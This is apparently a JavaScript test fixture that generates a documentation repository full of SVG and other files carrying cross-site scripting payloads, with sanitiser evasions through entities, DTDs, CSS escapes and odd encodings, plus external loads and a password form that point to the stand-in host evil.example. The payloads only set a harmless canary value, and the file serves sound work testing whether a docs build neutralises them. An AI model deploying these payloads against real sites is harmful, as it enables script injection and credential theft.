// Files beside the documents that a browser might run when they are opened on their own.

const head = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9">';

const DRAWINGS = [
  '<script>canary=1</script>',
  '<a xlink:href="javascript:canary=1"><rect width="9" height="9"/></a>',
  '<a href="#x"><animate attributeName="href" to="&#106;avascript:canary=1" begin="0s" fill="freeze"/><rect width="9" height="9"/></a>',
  '<a href="#x"><set to="&#106;avascript:canary=1" attributeName="href"/><rect width="9" height="9"/></a>',
  '<rect onclick="canary=1" width="9" height="9"/>',
  '<animate onbegin="canary=1" attributeName="x" dur="1s"/>',
  '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="canary=1"/></body></foreignObject>',
  '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;parent.canary=1&lt;/script&gt;"/></foreignObject>',
  '<foreignObject><meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=https://evil.example/"/></foreignObject>',
  '<foreignObject><form xmlns="http://www.w3.org/1999/xhtml" action="https://evil.example/"><input name="password"/></form></foreignObject>',
  '<h:script xmlns:h="http://www.w3.org/1999/xhtml">canary=1</h:script>',
  '<use href="data:image/svg+xml,&lt;svg id=\'x\' xmlns=\'http://www.w3.org/2000/svg\'>&lt;script>canary=1&lt;/script>&lt;/svg>#x"/>',
  '<image href="https://evil.example/a.png" width="9" height="9"/>',
  '<image xlink:href="//evil.example/a.svg" width="9" height="9"/>',
  '<use href="https://evil.example/a.svg#x"/>',
  '<feImage href="https://evil.example/a.png"/>',
  '<style>@import "https://evil.example/s.css";</style>',
  '<style>@import url(//evil.example/s.css);</style>',
  '<style>@font-face { font-family: x; src: url(https://evil.example/f.woff) } text { font-family: x }</style><text y="9">x</text>',
  '<style>rect { fill: url("https://evil.example/a.svg#x") }</style><rect width="9" height="9"/>',
  '<rect width="9" height="9" style="filter:url(https://evil.example/a.svg#x)"/>',
  '<rect width="9" height="9" fill="url(https://evil.example/a.svg#x)"/>',
  '<style><![CDATA[</style><script>canary=1</script>]]></style>',
  '<![CDATA[x]]><x:script xmlns:x="http://www.w3.org/2000/svg">canary=1</x:script>',
  '<title>&lt;img src=x onerror=canary=1&gt;</title>',
].map((inner) => `${head}${inner}</svg>`);

const WHOLE = [
  `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "canary=1">]>${head}</svg>`,
  `<?xml version="1.0" encoding="ISO-2022-JP"?>${head}<scr\u001b(Bipt>canary=1</scr\u001b(Bipt></svg>`,
  `${head}<a href="#x"><set to="java&#10;script:canary=1" attributeName="href"/><rect width="9" height="9"/></a></svg>`,
  `${head}<rect style="fill:u&#114;l(https://evil.example/a.svg#x)" width="9" height="9"/></svg>`,
  `${head}<style>rect { fill: \\75rl(https://evil.example/a.svg#x) } \\@import 'https://evil.example/s.css';</style><rect width="9" height="9"/></svg>`,
  `<!DOCTYPE svg [<!ENTITY x "&#60;script>canary=1&#60;/script>">]>${head}&x;</svg>`,
  `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?>${head}</svg>`,
  `<?xml-stylesheet href="https://evil.example/s.css"?>${head}</svg>`,
  '<html xmlns="http://www.w3.org/1999/xhtml"><script>canary=1</script></html>',
  Buffer.from(`\ufeff${head}<script>canary=1</script></svg>`, 'utf16le'),
  Buffer.from(`<?xml version="1.0" encoding="UTF-7"?>${head.slice(4)}+ADw-script+AD4-canary=1+ADw-/script+AD4-</svg>`),
];

/** Names that a careless server or browser may take for a page. */
const EXTENSIONS = ['txt', 'csv', 'json', 'yaml', 'toml', 'pdf', 'zip', 'gz', 'drawio', 'puml', 'mmd', 'dot', 'excalidraw', 'proto', 'ico', 'bmp', 'png', 'mp4', 'html', 'htm', 'xhtml', 'xml', 'xsl', 'js', 'mjs', 'css', 'swf', 'mht', 'shtml', 'svgz', 'wasm', 'webmanifest', 'rss'];

/** Files of a repository: `[path, bytes]`. */
export function drawings(payloads) {
  const images = [...DRAWINGS, ...WHOLE, ...payloads.filter((text) => text.includes('<')).map((text) => `${head}${text}</svg>`)];
  const page = '<!doctype html><html><body><script>canary=1</script><img src=x onerror="canary=1">';
  const others = EXTENSIONS.map((extension) => [`drawings/docs/file.${extension}`, page]);
  const list = images.map((_, n) => `![${n}](${n}.svg) [open](${n}.svg)`).concat(EXTENSIONS.map((extension) => `[file](file.${extension}) ![file](file.${extension})`));
  return [
    ...images.map((bytes, n) => [`drawings/docs/${n}.svg`, bytes]),
    ...others,
    ['drawings/mkdocs.yml', 'site_name: Drawings\n'],
    ['drawings/docs/index.md', `# Drawings\n\n${list.join('\n\n')}\n`],
  ];
}
